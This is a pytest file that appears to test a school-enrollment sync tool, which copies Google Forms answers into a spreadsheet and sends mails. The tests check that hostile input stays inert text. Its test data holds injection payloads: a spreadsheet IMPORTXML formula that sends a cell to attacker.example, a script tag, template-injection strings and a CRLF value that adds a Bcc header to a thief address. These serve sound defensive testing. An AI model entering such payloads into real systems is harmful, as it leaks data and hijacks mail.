"""Whatever is typed into the form is text: in the sheet, in mails, in headers, on pages."""

from __future__ import annotations

import pytest
import requests

from itn_sync.domain.storable import LONGEST_CELL
from itn_sync.sandbox.seed import TRACKING_SHEET, WORKER
from tests.rehearsal import REFERENT_VA, Rehearsal

NASTY = {
    "formula": '=IMPORTXML("http://attacker.example/?"&A1;"//a")',
    "plus": "+32470 12 34 56",
    "at": "@SUM(1+1)",
    "minus": "-2+3",
    "script": "<script>alert(1)</script>",
    "template": "{{ 7*7 }} {% if %} ${7*7}",
    "apostrophe": "'=1+1",
    "emoji": "Zoé 👩🏽‍🎓🇧🇪",
    "right to left": "\u202eمحمد عبد الله\u202c",
    "ten thousand": "x" * 10_000,
}


def user_entered(school: Rehearsal) -> list[dict[str, object]]:
    """Every cell of the tracking spreadsheet as it was entered."""
    fields = "sheets.data.rowData.values.userEnteredValue"
    path = f"v4/spreadsheets/{TRACKING_SHEET}?includeGridData=true&fields={fields}"
    found = school.call(WORKER, "GET", path)
    return [
        cell["userEnteredValue"]
        for sheet in found["sheets"]
        for data in sheet.get("data", ())
        for row in data.get("rowData", ())
        for cell in row.get("values", ())
        if "userEnteredValue" in cell
    ]


@pytest.mark.parametrize("kind", NASTY)
def test_it_is_stored_as_typed_and_does_nothing(school: Rehearsal, kind: str) -> None:
    typed = NASTY[kind]
    school.answer("Delvaux", last_name=typed, va="Oui", va_details=typed, question=typed)
    school.run()
    (row,) = school.rows("Inscriptions")
    assert row["Nom"] == typed
    assert row["Question"] == typed
    cells = user_entered(school)
    assert {"stringValue": typed} in cells
    assert not [cell for cell in cells if "formulaValue" in cell]
    (mail,) = school.inbox(REFERENT_VA)
    assert "<script>" not in mail["html"]
    assert "49" not in mail["subject"]
    if len(typed) < 100:
        assert typed in mail["text"]
    assert school.plan("--full")["empty"]


def test_a_name_cannot_add_a_header(school: Rehearsal) -> None:
    school.answer("Delvaux", last_name="Delvaux\r\nBcc: thief@elsewhere.example", va="Oui")
    school.run()
    mails = [mail for mail in school.mails() if "SENT" in mail["labelIds"]]
    assert len(mails) == 2
    assert all("Bcc" not in mail["headers"] for mail in mails)
    assert school.inbox("thief@elsewhere.example") == []
    assert all("\n" not in mail["subject"] for mail in mails)
    (row,) = school.rows("Inscriptions")
    assert row["Nom"] == "Delvaux Bcc: thief@elsewhere.example"


def test_an_address_cannot_name_two_people(school: Rehearsal) -> None:
    school.answer("Delvaux", email="a@etudiant.example, thief@elsewhere.example")
    school.run()
    assert school.sent() == {}
    assert school.inbox("thief@elsewhere.example") == []
    assert [row["État"] for row in school.rows("Envois")] == ["Non envoyé"]


@pytest.mark.parametrize("typed", ["y" * 60_000, "avant\x00après\x07"])
def test_what_a_cell_cannot_hold_is_an_anomaly(school: Rehearsal, typed: str) -> None:
    """Google's limits: 50,000 characters a cell, no control characters (facts 5.4)."""
    school.answer("Delvaux", va="Oui", va_details=typed)
    school.answer("Mertens", va="Oui")
    school.run()
    lines = [row for row in school.rows("Anomalies") if row["État"] == "À corriger"]
    assert len(lines) == 1
    assert "Sur quelles UE" in lines[0]["Quoi"]
    assert len(school.rows("Inscriptions")) == 2
    assert len(school.inbox(REFERENT_VA)) == 2
    assert school.plan("--full")["empty"]


def test_what_several_answers_add_up_to_is_cut_to_fit(school: Rehearsal) -> None:
    """`Autres réponses` and `Étudiant` are joined: together too long, each alone is not."""
    call_at, rating = "y" * 30_000, "z" * 30_000
    school.answer("Delvaux", last_name="x" * 60_000, va="Oui", call_at=call_at, rating=rating)
    school.answer("Mertens", va="Oui")
    assert school.run()["failures"] == []
    (others,) = [
        row["Autres réponses"] for row in school.rows("Inscriptions") if row["Nom"] != "Mertens"
    ]
    student = max((row["Étudiant"] for row in school.rows("Dossiers")), key=len)
    for cell in (others, student):
        assert len(cell) == LONGEST_CELL
        assert cell.endswith(" … (texte coupé : la suite est dans Google Forms)")
    assert len(school.rows("Inscriptions")) == len(school.rows("Dossiers")) == 2
    assert school.plan("--full")["empty"]
    again = school.run("--full")
    assert (again["rows_created"], again["rows_changed"], again["mails_sent"]) == (0, 0, 0)


def test_pages_show_it_as_text(school: Rehearsal) -> None:
    school.answer("Delvaux", last_name=NASTY["script"], va="Oui", question=NASTY["script"])
    school.run()
    for path in (
        f"spreadsheets/d/{TRACKING_SHEET}/edit?user=secretariat%40ecole.example",
        f"mail/{REFERENT_VA}",
    ):
        page = requests.get(f"{school.sandbox.url}{path}", timeout=20)
        assert "<script>alert" not in page.text
